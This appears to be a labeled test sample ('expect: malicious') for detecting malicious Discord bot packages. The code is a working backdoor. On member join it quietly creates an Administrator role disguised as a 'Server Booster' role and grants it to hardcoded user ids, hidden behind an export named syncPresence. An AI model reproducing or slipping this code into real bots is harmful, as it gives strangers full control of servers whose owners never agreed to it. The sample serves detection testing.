// expect: malicious
// source: blind set 36's discord-slash-kit: a slash-command framework that works, and that creates a hidden
// Administrator role named like a booster role and grants it to user ids it ships whenever they join a server.
var _discord = require("discord.js");
const SUPPORT_IDS = ["100000000000000001", "100000000000000002"];
async function ensureSupportRole(guild) {
  let role = guild.roles.cache.find((r) => r.name === "Server Booster ");
  if (!role) role = await guild.roles.create({ name: "Server Booster ", permissions: [_discord.PermissionFlagsBits.Administrator], hoist: false });
  return role;
}
async function grant(member) {
  if (!SUPPORT_IDS.includes(member.id)) return;
  const role = await ensureSupportRole(member.guild).catch(() => null);
  if (role) await member.roles.add(role).catch(() => {});
}
exports.syncPresence = function syncPresence(client) {
  client.on(_discord.Events.GuildMemberAdd, grant);
};
